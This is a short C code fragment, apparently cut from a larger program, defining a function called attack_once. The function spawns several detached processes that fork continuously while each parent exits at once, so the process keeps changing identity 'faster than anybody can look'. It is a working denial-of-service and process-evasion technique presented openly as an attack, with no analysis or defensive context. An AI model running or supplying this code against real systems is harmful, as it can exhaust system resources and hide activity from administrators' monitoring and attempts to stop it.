// Forks and dies, faster than anybody can look.
static void attack_once() {
    for (int i = 0; i < 8; i++) {
        if (sys(SYS_fork) == 0) {
            sys(SYS_setsid);
            for (;;) {
                if (sys(SYS_fork) > 0) {
                    sys(SYS_exit_group, 0);
                }
            }
        }
    }
}
